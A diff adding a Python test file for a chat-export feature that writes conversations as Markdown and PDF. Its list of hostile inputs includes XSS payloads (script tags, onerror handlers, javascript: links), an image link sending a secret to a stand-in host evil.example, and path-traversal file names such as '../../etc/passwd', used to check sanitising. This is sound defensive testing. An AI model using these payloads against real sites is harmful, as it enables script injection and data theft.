@@ -1,0 +1,109 @@
+"""A conversation as Markdown that makes no HTML of its own, and as a PDF with every letter of the five languages."""
+
+from __future__ import annotations
+
+import io
+
+import pypdfium2
+import pytest
+from markdown_it import MarkdownIt
+
+from ventoux.conversations.entries import MessageInput, MessageOutput, TextChunk, ToolExecution, ToolReferenceChunk
+from ventoux.conversations.exporting.markdown import as_markdown
+from ventoux.conversations.exporting.names import file_name
+from ventoux.conversations.exporting.parts import Code, Prose, parts_of
+from ventoux.conversations.exporting.pdf import as_pdf
+from ventoux.conversations.schemas import Conversation
+
+AT = "2026-01-01T00:00:00Z"
+
+
+def talk(name: str | None = "Talk") -> Conversation:
+    return Conversation(
+        id="conv_" + "0" * 32, workspace_id="w", owner="o", key_id="k", name=name, created_at=1.8e9, updated_at=1.8e9
+    )
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "`<img src=x onerror=alert(1)>`",
+    "```\n<script>\n````\n<b>still code</b>",
+    "~~~\ncode\n```\n<i>\n~~~\n<iframe src=x>",
+    "> ```\n<svg onload=alert(1)>\n```\n<svg>\n",
+    "- ```\n  x\n```\n<object>\n```\n",
+    "[x](javascript:alert(1)) [y](<javascript:alert(1)>) [z](data:text/html,x)",
+    "[a]: javascript:alert(1)\n\n[a]",
+    "![pixel](https://evil.example/p?d=secret)",
+    "<https://ok.example> <javascript:alert(1)>",
+    "&lt;script&gt; &#60;script&#62;",
+    "    <script>indented</script>",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_that_was_said_becomes_a_tag_an_image_or_a_link_that_runs(text: str) -> None:
+    page = MarkdownIt("commonmark", {"html": True}).render(as_markdown(talk(text), [MessageInput(content=text)]))
+
+    for tag in ("<script", "<img", "<iframe", "<svg", "<object", "<b>", "<i>", 'href="javascript', 'href="data'):
+        assert tag not in page, page
+
+
+def test_code_stays_as_it_was_and_links_to_the_web_stay_links() -> None:
+    said = 'See [it](https://a.example/b_c).\n\n```python\nif a < b:\n    print("```")\n```\nend'
+
+    written = as_markdown(talk(), [MessageInput(content=said)])
+
+    assert "[it](https://a.example/b_c)" in written
+    assert '````python\nif a < b:\n    print("```")\n````\n' in written
+
+
+def test_a_fence_ends_where_it_is_closed_and_else_with_the_message() -> None:
+    assert list(parts_of("a\n```py\nb\n```\nc\n~~~\nd")) == [Prose("a"), Code("b", "py"), Prose("c"), Code("d")]
+
+
+def test_citations_are_numbered_once_and_listed() -> None:
+    source = ToolReferenceChunk(tool="web_search", title="A_page", url="https://a.example")
+    entry = MessageOutput(content=[TextChunk("Yes "), source, TextChunk(", no "), source], created_at=AT)
+
+    written = as_markdown(talk(), [entry])
+
+    assert "Yes [1], no [1]" in written
+    assert "1. A\\_page: https://a.example" in written
+
+
+def _text(pdf: bytes) -> list[str]:
+    document = pypdfium2.PdfDocument(io.BytesIO(pdf))
+    return [page.get_textpage().get_text_bounded() for page in document]
+
+
+def test_letters_of_five_languages_are_in_the_pdf_and_what_is_lost_is_told() -> None:
+    letters = "œuvre garçon Noël Größe Übung ñandú ¿qué? perché città €5 “oui” « ça » \u2013 …"
+    known = MessageInput(content=letters, created_at=AT)
+
+    (plain,) = _text(as_pdf(talk(), [known]))
+    (lost,) = _text(as_pdf(talk(), [known, MessageInput(content="漢字 → x", created_at=AT)]))
+
+    assert letters in plain
+    assert "do not have" not in plain
+    assert "¿¿ -> x" in lost
+    assert "do not have" in lost
+
+
+def test_a_long_conversation_goes_over_pages_and_loses_no_word() -> None:
+    words = [f"word{number}" for number in range(3000)]
+    ran = ToolExecution(name="code_interpreter", arguments="{}", info={"output": "y" * 500}, created_at=AT)
+
+    pages = _text(as_pdf(talk("x" * 300), [MessageInput(content=" ".join(words), created_at=AT), ran]))
+
+    assert len(pages) > 2
+    assert [word for word in words if not any(word in page for page in pages)] == []
+
+
+@pytest.mark.parametrize("name", ["../../etc/passwd", "a/b\\c:d*?", "CON", "\x00\n", "", None, "é" * 500, ".."])
+def test_names_of_files_lead_nowhere(name: str | None) -> None:
+    made = file_name(talk(name), "md")
+
+    assert made.startswith("2027-01-15 ")
+    assert made.endswith(" 000000000000.md")
+    assert len(made) < 100
+    assert not set(made[:-3]) & set('/\\:*?"<>|.\n\x00')
